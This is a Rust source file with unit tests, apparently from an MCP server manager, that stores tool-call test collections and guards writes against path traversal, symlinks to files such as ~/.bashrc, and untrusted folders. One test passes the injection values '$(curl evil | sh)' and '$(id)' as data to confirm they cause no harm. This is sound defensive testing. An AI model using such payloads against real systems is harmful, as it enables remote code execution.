//! The collections a project sees: its own folder (`.mcp-collections/`, committed with
//! `.mcp.json`) and the private one in the app's data folder; and the changes the window makes
//! to them (a case added, its expectations edited, a snapshot accepted, a case removed), each
//! a whole rewrite of one file in its stable form.

use std::path::{Path, PathBuf};

use serde::Serialize;
use serde_json::{Map, Value};

use crate::model::{self, Case, Collection};
use crate::CollectionError;

/// One collection file as the window shows it.
#[derive(Debug, Clone, PartialEq, Serialize, specta::Type)]
#[serde(rename_all = "camelCase")]
pub struct CollectionView {
    pub name: String,
    pub path: String,
    /// In the project's folder (shared with the team) or private.
    pub shared: bool,
    pub cases: Vec<Case>,
    /// Why the file could not be read (it is left as it is).
    pub problem: Option<String>,
}

/// Where collections are kept for a project.
#[derive(Debug, Clone)]
pub struct Shelf {
    pub project: PathBuf,
    pub private: PathBuf,
    /// The project folder itself: the project's collections are written only inside it.
    pub folder: PathBuf,
    /// The data folder: private collections are written only inside it.
    pub data_dir: PathBuf,
    /// Whether the person trusts the project folder; its collections are written only then.
    pub trusted: bool,
}

/// A case just added.
#[derive(Debug, Clone, PartialEq, Serialize, specta::Type)]
#[serde(rename_all = "camelCase")]
pub struct AddedCase {
    pub path: String,
    pub name: String,
    /// Variables that now stand for secret arguments: set them before running.
    pub variables: Vec<String>,
    /// When the case cannot run yet, why: its server is one of a folder not trusted yet.
    pub runs_after_trust: Option<String>,
}

/// Why a case of `server` runs only once the project folder is trusted: `server` is one of
/// the folder's own (its `.mcp.json`, a project skills plugin), which starts only then.
pub fn runs_after_trust(locations: &mcp_manager_core::Locations, server: &str) -> Option<String> {
    if mcp_manager_core::config::trust::is_trusted(locations) {
        return None;
    }
    let catalog = mcp_manager_core::config::catalog::Catalog::load(locations);
    let entry = catalog.require(server).ok()?;
    entry.from_project().then(|| {
        format!(
            "It will run only after you trust this folder: \"{server}\" is one of its own servers, which start only then."
        )
    })
}

impl Shelf {
    /// The shelf of `project`; `trusted` says whether the person trusts that folder.
    pub fn new(project: &Path, data_dir: &Path, trusted: bool) -> Shelf {
        Shelf {
            project: project.join(model::PROJECT_FOLDER),
            private: data_dir.join(model::PRIVATE_FOLDER),
            folder: project.to_path_buf(),
            data_dir: data_dir.to_path_buf(),
            trusted,
        }
    }

    /// Writes `file` to `path`: a project's collection only in a trusted folder, and never
    /// outside the project (or the data folder, for a private one).
    fn save(&self, file: &Collection, path: &Path) -> Result<(), CollectionError> {
        model::may_write(path, &self.folder, self.trusted)?;
        let shared = path.starts_with(&self.folder);
        let root = if shared { &self.folder } else { &self.data_dir };
        if !root.exists() {
            mcp_manager_core::private::dir(root).map_err(|err| CollectionError::Unwritable {
                path: path.display().to_string(),
                reason: err.to_string(),
            })?;
        }
        file.save(path, root, !shared)
    }

    /// Every collection, the project's first, each by name.
    pub fn all(&self) -> Vec<CollectionView> {
        let mut views = Vec::new();
        for (folder, shared) in [(&self.project, true), (&self.private, false)] {
            for path in model::list(folder) {
                let name = path
                    .file_stem()
                    .map(|s| s.to_string_lossy().into_owned())
                    .unwrap_or_default();
                let (cases, problem) = match Collection::load(&path, &self.folder) {
                    Ok(collection) => (collection.cases, None),
                    Err(err) => (Vec::new(), Some(err.to_string())),
                };
                views.push(CollectionView {
                    name,
                    path: path.display().to_string(),
                    shared,
                    cases,
                    problem,
                });
            }
        }
        views
    }

    /// The file of collection `name`: shared (the project's folder) or private.
    pub fn file(&self, name: &str, shared: bool) -> Result<PathBuf, CollectionError> {
        let valid = !name.is_empty()
            && name.len() <= 100
            && name
                .chars()
                .all(|c| c.is_alphanumeric() || matches!(c, '-' | '_' | ' ' | '.'))
            && !name.starts_with('.');
        if !valid {
            return Err(CollectionError::Invalid(format!(
                "\"{name}\" cannot name a collection: use letters, digits, spaces, '-', '_' and '.' (not first)"
            )));
        }
        let folder = if shared { &self.project } else { &self.private };
        Ok(folder.join(format!("{name}.json")))
    }

    /// Checks that `path` is a collection this shelf holds (the window names files by path).
    pub fn held(&self, path: &str) -> Result<PathBuf, CollectionError> {
        let path = PathBuf::from(path);
        let inside = [&self.project, &self.private]
            .iter()
            .any(|folder| path.parent() == Some(folder.as_path()));
        if inside && path.extension().is_some_and(|e| e == "json") {
            Ok(path)
        } else {
            Err(CollectionError::Invalid(format!(
                "{} is not one of this project's collections",
                path.display()
            )))
        }
    }

    fn open(&self, path: &Path) -> Result<Collection, CollectionError> {
        if path.exists() {
            Collection::load(path, &self.folder)
        } else {
            Ok(Collection::default())
        }
    }

    /// Adds a call tried by hand to collection `name` (made when new).
    #[allow(clippy::too_many_arguments)]
    pub fn add_call(
        &self,
        collection: &str,
        shared: bool,
        case_name: Option<&str>,
        server: &str,
        tool: &str,
        arguments: &Map<String, Value>,
        input_schema: &Value,
        result: Result<&Value, &str>,
    ) -> Result<AddedCase, CollectionError> {
        let path = self.file(collection, shared)?;
        let mut file = self.open(&path)?;
        let name = case_name
            .map(str::trim)
            .filter(|n| !n.is_empty())
            .map(String::from)
            .unwrap_or_else(|| crate::fresh_name(&file, tool));
        let (case, variables) =
            crate::case_from_call(&name, server, tool, arguments, input_schema, result);
        file.put(case);
        self.save(&file, &path)?;
        Ok(AddedCase {
            path: path.display().to_string(),
            name,
            variables,
            runs_after_trust: None,
        })
    }

    /// Replaces case `name` of the file at `path` with `case` (its expectations edited, say).
    pub fn update(&self, path: &str, name: &str, case: Case) -> Result<(), CollectionError> {
        case.action()?;
        self.edit(path, name, |slot| *slot = case)
    }

    /// Takes `result` (JSON text) as case `name`'s snapshot.
    pub fn accept(&self, path: &str, name: &str, result: &str) -> Result<(), CollectionError> {
        let result: Value = serde_json::from_str(result)
            .map_err(|err| CollectionError::Invalid(format!("the result is not JSON: {err}")))?;
        self.edit(path, name, |case| case.expect.snapshot = Some(result))
    }

    /// Changes case `name` of the collection at `path` with `change`, and saves the file.
    fn edit(
        &self,
        path: &str,
        name: &str,
        change: impl FnOnce(&mut Case),
    ) -> Result<(), CollectionError> {
        let path = self.held(path)?;
        let mut file = Collection::load(&path, &self.folder)?;
        let Some(case) = file.cases.iter_mut().find(|c| c.name == name) else {
            return Err(CollectionError::Invalid(format!(
                "{} has no case \"{name}\"",
                path.display()
            )));
        };
        change(case);
        self.save(&file, &path)
    }

    /// Removes case `name`.
    pub fn remove(&self, path: &str, name: &str) -> Result<(), CollectionError> {
        let path = self.held(path)?;
        let mut file = Collection::load(&path, &self.folder)?;
        file.cases.retain(|c| c.name != name);
        self.save(&file, &path)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn add_edit_accept_remove_and_nothing_outside_the_shelf() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("p")).unwrap();
        let shelf = Shelf::new(&dir.path().join("p"), &dir.path().join("data"), true);
        let args = json!({"a": 1}).as_object().unwrap().clone();
        let result = json!({"content": [{"type": "text", "text": "1"}]});
        let added = shelf
            .add_call(
                "smoke",
                true,
                None,
                "s",
                "t",
                &args,
                &Value::Null,
                Ok(&result),
            )
            .unwrap();
        assert_eq!(added.name, "t");
        assert!(added.path.ends_with("p/.mcp-collections/smoke.json"));
        let again = shelf
            .add_call(
                "smoke",
                true,
                None,
                "s",
                "t",
                &args,
                &Value::Null,
                Ok(&result),
            )
            .unwrap();
        assert_eq!(again.name, "t 2");
        shelf
            .add_call(
                "mine",
                false,
                Some("x"),
                "s",
                "t",
                &args,
                &Value::Null,
                Err("boom"),
            )
            .unwrap();
        let all = shelf.all();
        assert_eq!(
            all.iter()
                .map(|c| (c.name.as_str(), c.shared, c.cases.len()))
                .collect::<Vec<_>>(),
            vec![("smoke", true, 2), ("mine", false, 1)]
        );
        let mut case = all[0].cases[0].clone();
        case.expect.text_contains = vec!["1".into()];
        shelf.update(&added.path, "t", case).unwrap();
        shelf
            .accept(&added.path, "t 2", r#"{"content": []}"#)
            .unwrap();
        let smoke = Collection::load(Path::new(&added.path), &shelf.folder).unwrap();
        assert_eq!(smoke.cases[0].expect.text_contains, vec!["1"]);
        assert_eq!(smoke.cases[1].expect.snapshot, Some(json!({"content": []})));
        shelf.remove(&added.path, "t").unwrap();
        assert_eq!(
            Collection::load(Path::new(&added.path), &shelf.folder)
                .unwrap()
                .cases
                .len(),
            1
        );
        for outside in [
            "/etc/passwd",
            "/tmp/x.json",
            &format!(
                "{}/../evil.json",
                dir.path().join("p/.mcp-collections").display()
            ),
        ] {
            assert!(shelf.remove(outside, "t").is_err(), "{outside}");
        }
        assert!(shelf.file("../up", true).is_err());
        assert!(shelf.file(".hidden", true).is_err());
        assert!(shelf.file("a/b", true).is_err());
    }

    /// The attack of the review: a repository commits `.mcp-collections/smoke.json.tmp ->
    /// ~/.bashrc` (and links at the other names a write once used); adding a call to "smoke"
    /// must leave the person's file alone.
    #[test]
    fn a_committed_link_at_a_temporary_name_does_not_replace_the_persons_file() {
        let dir = tempfile::tempdir().unwrap();
        let bashrc = dir.path().join(".bashrc");
        std::fs::write(&bashrc, "export PATH=$HOME/bin:$PATH\n").unwrap();
        let project = dir.path().join("repo");
        let folder = project.join(model::PROJECT_FOLDER);
        std::fs::create_dir_all(&folder).unwrap();
        for planted in ["smoke.json.tmp", ".smoke.json.tmp", "smoke.tmp"] {
            std::os::unix::fs::symlink("../../.bashrc", folder.join(planted)).unwrap();
        }
        let shelf = Shelf::new(&project, &dir.path().join("data"), true);
        let args = json!({"a": "$(curl evil | sh)"})
            .as_object()
            .unwrap()
            .clone();
        shelf
            .add_call(
                "smoke",
                true,
                Some("$(id)"),
                "s",
                "t",
                &args,
                &Value::Null,
                Err("x"),
            )
            .unwrap();
        assert_eq!(
            std::fs::read_to_string(&bashrc).unwrap(),
            "export PATH=$HOME/bin:$PATH\n"
        );
        assert!(Collection::load(&folder.join("smoke.json"), &project).is_ok());
    }

    #[test]
    fn a_collection_file_or_folder_linking_out_of_the_project_is_not_written() {
        let dir = tempfile::tempdir().unwrap();
        let outside = dir.path().join("config");
        std::fs::create_dir(&outside).unwrap();
        std::fs::write(outside.join("victim.json"), "mine").unwrap();
        let project = dir.path().join("repo");
        let folder = project.join(model::PROJECT_FOLDER);
        std::fs::create_dir_all(&folder).unwrap();
        std::os::unix::fs::symlink(outside.join("victim.json"), folder.join("smoke.json")).unwrap();
        let shelf = Shelf::new(&project, &dir.path().join("data"), true);
        let args = Map::new();
        let err = shelf
            .add_call("smoke", true, None, "s", "t", &args, &Value::Null, Err("x"))
            .unwrap_err();
        assert!(err.to_string().contains("leads out of"), "{err}");
        assert_eq!(
            std::fs::read_to_string(outside.join("victim.json")).unwrap(),
            "mine"
        );
        // The whole folder a link out of the project.
        std::fs::remove_dir_all(&folder).unwrap();
        std::os::unix::fs::symlink(&outside, &folder).unwrap();
        let err = shelf
            .add_call("other", true, None, "s", "t", &args, &Value::Null, Err("x"))
            .unwrap_err();
        assert!(err.to_string().contains("leads out of"), "{err}");
        assert!(!outside.join("other.json").exists());
    }

    #[test]
    fn a_case_of_one_of_an_untrusted_folder_s_own_servers_says_it_waits_for_trust() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let (home, project) = (root.join("home"), root.join("repo"));
        std::fs::create_dir_all(&home).unwrap();
        std::fs::create_dir_all(&project).unwrap();
        std::fs::write(
            project.join(".mcp.json"),
            r#"{"mcpServers": {"theirs": {"command": "node"}}}"#,
        )
        .unwrap();
        std::fs::write(
            home.join(".claude.json"),
            r#"{"mcpServers": {"mine": {"command": "node"}}}"#,
        )
        .unwrap();
        let locations = mcp_manager_core::Locations::new(home.clone(), None, &project).unwrap();
        let said = runs_after_trust(&locations, "theirs").expect("it waits");
        assert!(said.contains("only after you trust this folder"), "{said}");
        assert_eq!(
            runs_after_trust(&locations, "mine"),
            None,
            "the person's own server runs"
        );
        mcp_manager_core::config::trust::trust(&locations).unwrap();
        assert_eq!(
            runs_after_trust(&locations, "theirs"),
            None,
            "trusted: nothing to wait for"
        );
    }

    #[test]
    fn an_untrusted_folder_s_collections_are_not_written() {
        let dir = tempfile::tempdir().unwrap();
        let project = dir.path().join("repo");
        std::fs::create_dir_all(&project).unwrap();
        let shelf = Shelf::new(&project, &dir.path().join("data"), false);
        let args = Map::new();
        let err = shelf
            .add_call("smoke", true, None, "s", "t", &args, &Value::Null, Err("x"))
            .unwrap_err();
        assert!(err.to_string().contains("not trusted"), "{err}");
        assert!(!project.join(model::PROJECT_FOLDER).exists());
        // A private collection is the person's own: written, 0600.
        let added = shelf
            .add_call("mine", false, None, "s", "t", &args, &Value::Null, Err("x"))
            .unwrap();
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&added.path).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }
}
